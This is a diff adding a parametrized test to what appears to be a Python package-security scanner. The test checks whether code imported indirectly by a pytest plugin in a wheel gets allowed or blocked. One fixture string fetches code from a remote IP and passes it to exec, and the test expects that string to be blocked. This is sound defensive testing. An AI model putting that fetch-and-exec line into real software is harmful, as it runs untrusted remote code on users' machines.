@@ -313,3 +313,17 @@ def test_a_compiler_that_a_variable_names_waits_for_a_person_and_blocks_nobody()
     )
     report = report_on(sdist("kit", "1.0", {"setup.py": script}), "kit-1.0.tar.gz")
     assert judged(report) is Outcome.REVIEW
+
+
+@pytest.mark.parametrize(
+    ("deeper", "outcome"),
+    [
+        ("import ctypes\nlibc = ctypes.CDLL('libc.so.6')\n", Outcome.ALLOW),
+        ("import os\nos.system('true')\n", Outcome.BLOCK),
+        ("import requests\nexec(requests.get('http://203.0.113.7/x').text)\n", Outcome.BLOCK),
+    ],
+)
+def test_what_a_plug_in_imports_in_turn_is_the_library_that_it_belongs_to(deeper: str, outcome: Outcome) -> None:
+    files = {"kit/__init__.py": "from kit import core\n", "kit/core.py": deeper, "kit/plugin.py": "import kit\n"}
+    data = wheel("kit", "1.0", files, entry_points="[pytest11]\nkit = kit.plugin\n")
+    assert judged(report_on(data, "kit-1.0-py3-none-any.whl")) is outcome
